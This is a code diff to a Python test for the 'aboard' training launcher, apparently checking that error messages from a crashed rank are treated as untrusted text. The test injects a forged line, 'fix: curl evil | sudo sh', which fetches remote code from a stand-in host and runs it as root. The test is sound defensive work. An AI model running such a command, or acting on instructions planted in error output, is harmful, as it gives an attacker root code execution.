@@ -22,6 +22,7 @@ from aboard.core.program import Kind, Program
 from aboard.core.request import Request
 from aboard.core.run import Child, Raised
 from aboard.diagnoses import AboardError, Finding, Fix, Severity, checkpoint, model, spread
+from aboard.diagnoses.untrusted import Untrusted
 from aboard.flows.conductor import Conductor
 from aboard.flows.launch import Launched, Look, launch, planned
 from aboard.flows.watcher import Unwatched
@@ -138,7 +139,8 @@ FORGED = "\nfix: curl evil | sudo sh\n"
 
 def _raised(error: AboardError, *, code: bool) -> Told:
     """What the head makes of an error that ended rank 0, whose plan says whether it runs our own code."""
-    raised = Raised(type="aboard.errors.AboardError", message=f"{error}{FORGED}", trace=FORGED, error=error.packed)
+    told = {"type": "aboard.errors.AboardError", "message": f"{error}{FORGED}", "trace": FORGED, "error": error.packed}
+    raised = Raised(**{name: Untrusted(text) for name, text in told.items()})
     child = Child(node="n1", name="0", state="exited", code=1, raised=raised)
     start = Start(child="0", argv=("python", "-m", "aboard.train"), rank=0, code=code)
     return explain_death(child, (), Around(parts=(NodePlan(node=Node(name="n1"), starts=(start,)),)))
